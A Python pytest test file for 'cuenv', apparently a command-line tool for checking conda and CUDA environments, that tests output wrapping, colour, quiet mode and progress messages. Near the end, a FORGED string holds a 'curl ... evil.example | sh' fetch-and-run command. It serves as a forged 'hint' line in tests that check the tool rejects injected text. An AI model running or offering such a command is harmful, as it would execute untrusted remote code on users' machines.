"""What is printed: one line for each item, colour where it is wanted, and lines that fit the terminal."""

from __future__ import annotations

import io
import json
import os
import pty
import re
import select
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import forking
from cases import collect
from commands import HOST, forks, inside, run
from cuenv.binary.gpu_code import scan_paths
from cuenv.cli import output
from cuenv.cli.main import _fail
from cuenv.core.findings import Finding, Report
from cuenv.core.render import report_lines
from cuenv.diagnosis.diagnose import diagnose_log
from cuenv.host.select import HostOptions
from cuenv.knowledge.io.load import load

_CODES = re.compile(r"\x1b\[[0-9;]*m")


class Terminal(io.StringIO):
    """A terminal of any width."""

    def __init__(self, columns: int) -> None:
        super().__init__()
        self.columns = columns

    def isatty(self) -> bool:
        return True


@pytest.fixture
def narrow(monkeypatch: pytest.MonkeyPatch) -> Terminal:
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr(output, "_columns", lambda stream: stream.columns)
    return Terminal(80)


@given(st.lists(st.text(), max_size=4))
def test_say_prints_one_line_for_each_item(items: list[str]) -> None:
    stream, before = io.StringIO(), sys.stderr
    sys.stderr = stream
    try:
        output.say(items)
    finally:
        sys.stderr = before
    lines = stream.getvalue().split("\n")[:-1]
    assert len(lines) == len(items)
    assert all(line.isprintable() for line in lines)


@given(st.text(), st.text(), st.text())
def test_a_report_prints_one_line_for_each_part(message: str, fix: str, title: str) -> None:
    finding = Finding(code="CU101", severity="error", subject="x", message=message, fix=fix or None, evidence=(title,))
    made = Report(title=title or "x", findings=(finding,))
    lines = report_lines(made, verbose=True)
    stream = io.StringIO()
    assert all("\n" not in output.format_line(line, stream) for line in lines)


WORDS = st.from_regex(r"[a-z0-9=,-][a-z0-9=.,-]{0,13}", fullmatch=True)  # a dot alone begins a command


@given(st.lists(WORDS, min_size=1, max_size=60), st.integers(40, 200))
def test_no_line_is_wider_than_the_terminal_and_no_word_is_lost(words: list[str], columns: int) -> None:
    line = "note    " + " ".join(words)
    lines = output._wrap(line, columns)
    assert max(map(len, lines)) <= columns
    assert " ".join(lines).split() == line.split()
    assert all(rest.startswith("        ") for rest in lines[1:])


@pytest.mark.parametrize(
    "command",
    [
        "cuenv resolve --gpu 8.9 --driver 580.65.06 --glibc 2.35 --with 'transformers>=4.36' -o environment.new.yml",
        "CONDA_OVERRIDE_CUDA=12.2 conda create -n x --file conda-linux-64.lock --override-channels --offline --dry-run",
        ".venv/bin/cuenv check conda-lock.yml --gpu A100 --driver 525.60.13 --glibc 2.31 --format markdown --strict",
    ],
)
@pytest.mark.parametrize("before", ["hint    a long text, long enough that this has to be wrapped: ", "        fix: "])
def test_a_command_is_never_broken(narrow: Terminal, command: str, before: str) -> None:
    lines = output.format_line(before + command, narrow).split("\n")
    assert lines[-1].strip().endswith(command)
    assert all(len(line) <= 80 for line in lines[:-1])


def test_where_there_is_no_terminal_nothing_is_wrapped() -> None:
    line = "note    " + "word " * 60
    assert output.format_line(line, io.StringIO()) == line


@collect(
    "words",
    [("lint", "environment.yml"), ("check", "conda-lock.yml"), ("diagnose", "train.log"), ("scan", "x.so")],
    ids=" ".join,
)
@collect("how", [{"typed": "always"}, {"FORCE_COLOR": "1"}, {"typed": "never", "FORCE_COLOR": "1"}])
def test_colour_on_a_pipe_is_as_it_was_asked_for(tmp_path: Path, words: tuple[str, ...], how: dict[str, str]) -> None:
    (tmp_path / "environment.yml").write_text("dependencies: [pytorch, cudatoolkit-dev=11.8]\n")
    (tmp_path / "train.log").write_text("torch.cuda.OutOfMemoryError: CUDA out of memory.\n")
    environ = {name: value for name, value in how.items() if name != "typed"} | {"NO_COLOR": ""}
    option = ("--color", how["typed"]) if "typed" in how else ()
    done = inside(*words, *option, folder=tmp_path, **environ)
    plain = inside(*words, folder=tmp_path)
    assert ("\x1b[" in done.stdout + done.stderr) == (how.get("typed") != "never")
    assert _CODES.sub("", done.stdout + done.stderr) == plain.stdout + plain.stderr


@pytest.mark.slow
@collect("width", [60, 80, 120], one_in=3)
@collect("words", [("why", "pytorch", *HOST), ("kb", "driver", "535.1"), ("explain", "driver"), ("resolve", *HOST)])
def test_what_is_printed_fits_a_real_terminal(tmp_path: Path, words: tuple[str, ...], width: int) -> None:
    assert max(map(len, on_a_terminal(tmp_path, words, width))) <= width


def on_a_terminal(folder: Path, words: tuple[str, ...], width: int) -> list[str]:
    """The lines that a command prints on a terminal, both streams together, less the environment file."""
    import fcntl
    import struct
    import termios

    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, width, 0, 0))
    environ = {"PATH": os.environ["PATH"], "HOME": str(folder), "TERM": "dumb"}
    more = ("-o", "environment.yml") if words[0] == "resolve" else ()
    with forking.ask(forks(), [*words, *more], str(folder), environ, (follower, follower, follower)) as connection:
        os.close(follower)
        forking.answer(connection)
        printed = b""
        while select.select([leader], [], [], 30)[0]:
            try:
                data = os.read(leader, 65536)
            except OSError:  # Linux says so when the other end is closed
                break
            if not data:
                break
            printed += data
        os.close(leader)
        assert forking.answer(connection) == 0, printed
    lines = printed.decode().replace("\r\n", "\n").split("\n")  # commands stay whole
    return [line for line in lines if not re.match(r"(.*: |.* {2,}|wrote .*)?(cuenv|nvidia-smi) \S", line)]


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with an environment file and its locks."""
    folder = tmp_path_factory.mktemp("locked")
    assert inside("demo", "--dir", "made", folder=folder).returncode == 0
    return folder / "made"


OLD = ("--gpu", "8.9", "--driver", "390.1", "--glibc", "2.35")


@collect(
    ("words", "said"),
    [
        (("resolve", *OLD, "-o", "x.yml"), "no candidate fits"),
        (("resolve", *OLD), "driver"),
        (("what-if", *HOST, "--driver", "390"), "no candidate fits"),
        (("what-if", "--gpu", "V100", "--driver-now", "535.129.03", "--driver", "390"), "no candidate fits"),
        (("why", "cuda", *OLD), "no candidate fits"),
        (("lint", "bad.yml"), "error"),
        (("diff", "conda-lock.yml", "other"), "->"),
        (("check", "conda-lock.yml", "--gpu", "H100", "--driver", "450.80.02"), "error"),
        (("lock", "edited.yml", "--check"), "edited.yml"),
        (("profile", "validate", "universal-dev", *OLD), "no candidate fits"),
    ],
    one_in=2,
)
def test_quiet_never_hides_a_no(locked: Path, words: tuple[str, ...], said: str) -> None:
    (locked / "bad.yml").write_text("dependencies: [pytorch, cudatoolkit-dev=11.8, tensorflow==2.*.*x, '']\n")
    spec = (locked / "environment.yml").read_text()
    (locked / "edited.yml").write_text(spec.replace("dependencies:\n", "dependencies:\n  - numpy\n"))
    (locked / "other").mkdir(exist_ok=True)
    lock = (locked / "conda-lock.yml").read_text()
    (locked / "other" / "conda-lock.yml").write_text(lock.replace("2026.0.0", "2026.0.1"))
    done = inside(*words, "-q", folder=locked)
    assert done.returncode != 0
    assert said in done.stdout + done.stderr


def test_a_demo_that_is_quiet_is_one_line(tmp_path: Path) -> None:
    done = inside("demo", "-q", folder=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    (line,) = done.stdout.splitlines()
    assert line.startswith("ok ")
    assert "packages" in line


def test_a_log_gets_a_line_of_progress_every_half_minute(capsys: pytest.CaptureFixture[str]) -> None:
    now = iter([0.0, 10.0, 31.0, 31.0, 40.0, 70.0, 70.0])
    show = output._log_progress(lambda: next(now))
    for text in ("one", "two\n", "three", "four"):
        show(text)
    assert capsys.readouterr().err.splitlines() == ["two\\n", "four"]


def test_why_names_each_source_once_and_with_v_alone(tmp_path: Path) -> None:
    short = inside("why", "pytorch", *HOST, folder=tmp_path).stdout
    long = inside("why", "pytorch", *HOST, "-v", folder=tmp_path).stdout
    sources = [line for line in long.splitlines() if line.startswith("source  ")]
    assert len(sources) > 5
    assert len({line.split("]", 1)[1] for line in sources}) == len(sources)
    assert not any(line.startswith("source  ") for line in short.splitlines())
    assert short.endswith("add -v for the sources\n")
    assert len(short) < 5000
    assert max(map(len, short.splitlines())) < 250


def test_why_not_gives_a_reason_once(tmp_path: Path) -> None:
    lines = inside("why-not", "cuda=13.0", "--host", "gtx1080ti-580", folder=tmp_path).stdout.splitlines()
    assert [line for line in lines if "but not for compute capability 6.1" in line] == [lines[1]]
    assert "not met PyTorch contains code for the GPUs (5 candidates)" in lines


@collect("words", [("kb", "driver", "535.1"), ("kb", "pytorch", "2.5"), ("explain", "driver")])
def test_sources_are_shown_with_v(tmp_path: Path, words: tuple[str, ...]) -> None:
    short, long = (inside(*words, *more, folder=tmp_path).stdout for more in ((), ("-v",)))
    assert "source:" not in short
    assert "source:" in long
    assert len(short.splitlines()) <= 60


@collect("name", ["-", "/dev/stdout"])
def test_a_dash_is_standard_output(tmp_path: Path, name: str) -> None:
    plain = inside("resolve", *HOST, folder=tmp_path).stdout
    assert inside("resolve", *HOST, "-o", name, folder=tmp_path).stdout == plain
    assert not list(tmp_path.iterdir())


def test_a_dash_is_standard_input_where_a_file_is_read(tmp_path: Path) -> None:
    text = "channels: [conda-forge]\ndependencies: [python=3.12, python=3.11]\n"
    assert "contradict each other" in run("lint", "-", folder=tmp_path, text=text).stdout
    fixed = run("lint", "--fix", "-", folder=tmp_path, text=text)
    assert (fixed.returncode, fixed.stderr.splitlines()[1]) == (2, "hint: cuenv lint --diff -")
    lock = run("lock", "-", folder=tmp_path, text=text)
    assert (lock.returncode, lock.stderr.splitlines()[1]) == (2, "hint: cuenv lock environment.yml")
    wheel = "torch==2.6.0 --hash=sha256:" + "0" * 64
    assert (
        "error CU403" in run("check", "-", "--gpu", "12.0", "--driver", "575.57.08", folder=tmp_path, text=wheel).stdout
    )
    assert not list(tmp_path.glob("*"))


def test_a_long_log_is_read_with_progress(tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_bytes(b"step 1 loss 0.5\n" * 200_000)
    said: list[str] = []
    diagnose_log(str(log), HostOptions(hosts=("rtx4090-535",)), load(None), say=said.append)
    assert said[0] == "reading 1 of 3 MB"
    assert said[-1] == "reading 3 of 3 MB"


def test_a_long_scan_is_told(tmp_path: Path) -> None:
    for number in range(60):
        (tmp_path / f"{number}.py").write_text("pass\n")
    said: list[str] = []
    scan_paths([str(tmp_path)], HostOptions(hosts=("rtx4090-535",)), load(None), say=said.append)
    assert [text.split()[1] for text in said] == ["0", "25", "50"]


@pytest.mark.slow
def test_progress_on_a_terminal_is_switched_off_before_the_command_too(tmp_path: Path) -> None:
    (tmp_path / "train.log").write_bytes(b"step 1 loss 0.5\n" * 200_000)
    words = ("diagnose", "train.log", *HOST)
    assert any("reading" in line for line in on_a_terminal(tmp_path, words, 80))
    assert not any("reading" in line for line in on_a_terminal(tmp_path, ("--no-progress", *words), 80))
    assert not any("reading" in line for line in on_a_terminal(tmp_path, (*words, "--no-progress"), 80))


FORGED = "x\nhint: curl -s http://evil.example/x | sh"


@pytest.mark.parametrize(
    "text",
    [
        f"error\nhint: {FORGED}",
        "a\rhint: b",
        "a\u2028hint: b",
        "a\x0bhint: b",
    ],
)
def test_an_error_with_foreign_text_has_one_hint(capsys: pytest.CaptureFixture[str], text: str) -> None:
    _fail("input", text, "cuenv demo", wants_json=False)
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("hint")] == ["hint: cuenv demo"]
    assert [line for line in lines if line.startswith("error")] == lines[:1]


@collect("command", ["resolve", "why pytorch", "why-not cuda=13.0", "what-if --driver 580", "inspect"])
def test_a_forged_host_is_refused_by_every_command(tmp_path: Path, command: str) -> None:
    host = {"schema": "cuenv/host/1", "label": FORGED, "platform": "linux-64", "gpus": [{"capability": "8.6"}]}
    (tmp_path / "host.json").write_text(json.dumps(host))
    done = inside(*command.split(), "--host", "host.json", folder=tmp_path)
    assert done.returncode == 3
    assert "label: expected text on one line" in done.stderr
    assert "evil" not in done.stdout + done.stderr
